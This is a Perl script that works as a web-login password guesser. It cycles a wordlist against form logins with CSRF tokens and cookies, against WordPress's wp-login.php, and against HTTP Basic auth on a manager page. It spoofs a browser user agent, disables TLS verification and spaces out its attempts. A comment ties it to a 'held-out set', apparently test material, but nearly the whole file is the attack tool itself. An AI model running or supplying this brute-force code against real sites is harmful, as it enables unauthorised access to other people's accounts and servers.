#!/usr/bin/perl
# A guesser for web logins in Perl, for the held-out set: form with cookie and token, WordPress, basic.
#     formguess.pl WAY URL USER PASSWORDS SECONDS PAUSE KEEP(0 or 1)
use strict;
use warnings;
use HTTP::Tiny;
use MIME::Base64 qw(encode_base64);
use Time::HiRes qw(time sleep);

my ($way, $url, $user, $list, $seconds, $pause, $keep) = @ARGV;
open(my $words, '<', $list) or die "$list: $!";
chomp(my @words = <$words>);
my ($until, $at, %jar) = (time() + $seconds, 0);
my %browser = (agent => 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/124.0', max_redirect => 0, timeout => 8);
my $http = HTTP::Tiny->new(%browser, keep_alive => $keep, verify_SSL => 0);

sub ask {
    my ($method, $path, $form, %more) = @_;
    my %fields = ('Accept' => 'text/html,*/*', 'Accept-Language' => 'en', %more);
    $fields{Cookie} = join('; ', map { "$_=$jar{$_}" } sort keys %jar) if %jar;
    my $how = { headers => \%fields };
    if ($form) {
        $fields{'Content-Type'} = 'application/x-www-form-urlencoded';
        $how->{content} = $http->www_form_urlencode($form);
    }
    my $answer = $http->request($method, "$url$path", $how);
    my $set = $answer->{headers}{'set-cookie'} // [];
    for (ref $set ? @$set : $set) { $jar{$1} = $2 if /^([^=]+)=([^;]*)/ }
    return $answer;
}

while (time() < $until) {
    my $word = $words[$at++ % @words];
    if ($way eq 'token') {
        my ($token) = (ask('GET', '/login')->{content} // '') =~ /csrf_token" value="(\w+)"/;
        my $answer = ask('POST', '/login', { username => $user, password => $word, csrf_token => $token // '' });
        ask('GET', $answer->{headers}{location}) if $answer->{headers}{location};
    }
    elsif ($way eq 'wordpress') { ask('POST', '/wp-login.php', { log => $user, pwd => $word, 'wp-submit' => 'Log In' }) }
    else { ask('GET', '/manager/html', undef, Authorization => 'Basic ' . encode_base64("$user:$word", '')) }
    %jar = () unless $keep;
    sleep($pause) if $pause;
}
